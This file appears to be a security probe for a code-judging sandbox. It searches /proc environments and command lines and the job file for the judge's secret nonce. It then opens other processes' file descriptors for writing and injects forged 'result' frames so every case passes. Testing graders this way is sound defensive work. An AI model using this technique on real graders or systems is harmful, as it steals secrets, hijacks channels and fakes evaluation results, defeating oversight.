"""Security probe, stealing the result channel: looks for the judge's nonce in the job file,
in every process's environment and command line, and for a writable copy of the channel in
every process's open files; with both it writes the right answers for every case as frames
and exits. AC means the learner's code reached the judge's channel."""

import json
import os
import sys

WRONG = [0.0, 0.0, 0.0]


def _answer(seed, x, features, frozen_bias_value):
    """The right result: returned only if the attack worked, so an AC verdict means a hole."""
    import math

    import jax
    import jax.numpy as jnp
    from flax import nnx

    n = x.shape[-1]
    kernel = jax.random.normal(nnx.Rngs(int(seed)).params(), (n, int(features))) / math.sqrt(n)
    bias_norm = abs(float(frozen_bias_value)) * math.sqrt(features)
    return jnp.array([1.0, jnp.linalg.norm(kernel), bias_norm])


def _read(path):
    try:
        with open(path, "rb") as file:
            return file.read()
    except OSError:
        return b""


def _nonces():
    found = []
    job = _read("/judge/job/job.json")
    if job:
        nonce = json.loads(job).get("nonce")
        if nonce:
            found.append(nonce)
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        for name in ("environ", "cmdline"):
            for entry in _read(f"/proc/{pid}/{name}").split(b"\0"):
                if entry.startswith(b"JUDGEKIT_NONCE="):
                    found.append(entry.split(b"=", 1)[1].decode())
    return found


def _channels():
    """Every file descriptor of every process that this process can open for writing."""
    fds = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            names = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for name in names:
            try:
                fds.append(os.open(f"/proc/{pid}/fd/{name}", os.O_WRONLY))
            except OSError:
                pass
    return fds


def frozen_kernel_unchanged(seed, x, features, frozen_bias_value):
    import numpy as np

    nonces = _nonces()
    channels = _channels() if nonces else []
    if not channels:
        return WRONG
    job = json.load(open("/judge/job/job.json"))
    lines = []
    for case in job["cases"]:
        values = json.load(open(case["input"]))
        got = _answer(
            values["seed"], np.asarray(values["x"], np.float32), values["features"],
            values["frozen_bias_value"],
        )
        frame = {"event": "result", "case": case["id"], "shape": [3],
                 "values": [float(v) for v in got]}
        lines += [f"{nonce} {json.dumps(frame)}\n" for nonce in nonces]
    lines += [f'{nonce} {{"event": "done"}}\n' for nonce in nonces]
    for fd in channels:
        try:
            os.write(fd, "".join(lines).encode())
        except OSError:
            pass
    os._exit(0)
